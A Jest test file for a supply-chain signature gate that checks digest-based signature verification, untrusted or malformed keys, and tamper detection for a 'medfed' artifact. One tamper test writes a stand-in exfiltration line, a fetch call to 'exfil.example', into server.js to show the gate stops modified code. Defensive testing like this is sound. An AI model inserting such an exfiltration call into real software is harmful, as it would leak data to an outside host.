import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { sign } from 'node:crypto';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { artifactDigest, evaluateGate, loadPublicKey, parsePolicy, signDigest, signingSubject } from '../../src/index.js';
import { CLEAN_DIGEST, CLEAN_FILES, keyPair, makeTree, removeTrees } from '../support/fixture-tree.js';

afterAll(removeTrees);

const signatureOnly = parsePolicy(
  `version: 1
name: signature-only
environments:
  prod:
    rules:
      - { gate: signature, trigger: missing, action: stop }
      - { gate: signature, trigger: invalid, action: stop }
  dev:
    rules:
      - { gate: signature, trigger: invalid, action: warn }
`,
  'signature policy',
);

let artifact: string;
beforeAll(async () => {
  artifact = await makeTree(CLEAN_FILES);
});

const evaluate = (signature: string | Buffer | undefined, trustedKeys: string[], env: 'prod' | 'dev' = 'prod', target = artifact) =>
  evaluateGate({ artifact: target, env, policy: signatureOnly, trustedKeys, ...(signature === undefined ? {} : { signature: Buffer.from(signature) }) });

describe('signature gate', () => {
  for (const kind of ['ed25519', 'p256', 'p384'] as const) {
    it(`accepts a ${kind} signature over the artifact digest`, async () => {
      const keys = keyPair(kind);
      const decision = await evaluate(signDigest(CLEAN_DIGEST, keys.privateKey), [keys.publicPem]);
      expect(decision.decision).toBe('allow');
      expect(decision.triggers).toEqual([]);
    });
  }

  it('signs exactly the ASCII bytes "sha256:<hex>"', () => {
    expect(signingSubject(CLEAN_DIGEST).toString('latin1')).toBe(CLEAN_DIGEST);
    expect(() => signingSubject('registry.example/medfed:1.4.2')).toThrow(expect.objectContaining({ code: 'GATE_DIGEST_INVALID' }));
  });

  it('refuses a signature made with a key that is not trusted', async () => {
    const signer = keyPair('p256');
    const trusted = keyPair('p256');
    const decision = await evaluate(signDigest(CLEAN_DIGEST, signer.privateKey), [trusted.publicPem]);
    expect(decision.decision).toBe('stop');
    expect(decision.triggers).toEqual([expect.objectContaining({ gate: 'signature', trigger: 'invalid', subject: CLEAN_DIGEST })]);
  });

  it('accepts when any one of several trusted keys verifies', async () => {
    const signer = keyPair('ed25519');
    const decision = await evaluate(signDigest(CLEAN_DIGEST, signer.privateKey), [keyPair('p256').publicPem, signer.publicPem]);
    expect(decision.decision).toBe('allow');
  });

  it('refuses a signature over a tag or name instead of the digest', async () => {
    const keys = keyPair('p256');
    for (const subject of ['registry.hospital.example/medfed/coordinator:1.4.2', CLEAN_DIGEST.slice('sha256:'.length), `${CLEAN_DIGEST}\n`]) {
      const overTag = sign('sha256', Buffer.from(subject), { key: keys.privateKey, dsaEncoding: 'der' }).toString('base64');
      const decision = await evaluate(overTag, [keys.publicPem]);
      expect(decision.triggers).toEqual([expect.objectContaining({ trigger: 'invalid' })]);
    }
  });

  it('refuses a signature once the artifact is tampered with', async () => {
    const keys = keyPair('ed25519');
    const target = await makeTree(CLEAN_FILES);
    const signature = signDigest(await artifactDigest(target), keys.privateKey);
    expect((await evaluate(signature, [keys.publicPem], 'prod', target)).decision).toBe('allow');
    await writeFile(join(target, 'app/server.js'), "console.log('medfed'); fetch('https://exfil.example')\n");
    const after = await evaluate(signature, [keys.publicPem], 'prod', target);
    expect(after.decision).toBe('stop');
    expect(after.triggers).toEqual([expect.objectContaining({ trigger: 'invalid' })]);
  });

  it('accepts the IEEE P1363 (r||s) encoding and the cosign bundle JSON', async () => {
    const keys = keyPair('p256');
    const p1363 = sign('sha256', signingSubject(CLEAN_DIGEST), { key: keys.privateKey, dsaEncoding: 'ieee-p1363' }).toString('base64');
    expect((await evaluate(p1363, [keys.publicPem])).decision).toBe('allow');
    const bundle = JSON.stringify({ base64Signature: signDigest(CLEAN_DIGEST, keys.privateKey), cert: '' });
    expect((await evaluate(bundle, [keys.publicPem])).decision).toBe('allow');
  });

  it('a missing signature stops prod; an invalid one only warns in dev', async () => {
    const keys = keyPair('p256');
    expect((await evaluate(undefined, [keys.publicPem])).triggers).toEqual([expect.objectContaining({ trigger: 'missing' })]);
    const dev = await evaluate(signDigest(CLEAN_DIGEST, keyPair('p256').privateKey), [keys.publicPem], 'dev');
    expect(dev.decision).toBe('warn');
  });

  it('an unparseable signature is a stop in every environment', async () => {
    const keys = keyPair('p256');
    for (const env of ['prod', 'dev'] as const) {
      const decision = await evaluate('%%% not base64 %%%', [keys.publicPem], env);
      expect(decision.decision).toBe('stop');
      expect(decision.triggers).toContainEqual(expect.objectContaining({ gate: 'input', trigger: 'signature', code: 'GATE_SIGNATURE_MALFORMED' }));
    }
  });

  it('an unparseable, private, or unsupported key is a stop', async () => {
    const keys = keyPair('ed25519');
    const signature = signDigest(CLEAN_DIGEST, keys.privateKey);
    const privatePem = keys.privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
    for (const badKey of ['-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n', privatePem, keyPair('rsa').publicPem]) {
      const decision = await evaluate(signature, [badKey], 'dev');
      expect(decision.decision).toBe('stop');
      expect(decision.triggers).toContainEqual(expect.objectContaining({ gate: 'input', trigger: 'key', code: 'GATE_KEY_INVALID' }));
    }
  });

  it('loads a key file by path and fingerprints it', async () => {
    const keys = keyPair('p256');
    const dir = await makeTree({ 'cosign.pub': keys.publicPem });
    const loaded = await loadPublicKey(join(dir, 'cosign.pub'));
    expect(loaded.algorithm.id).toBe('ecdsa-p256-sha256');
    expect(loaded.fingerprint).toMatch(/^sha256:[0-9a-f]{64}$/);
  });
});
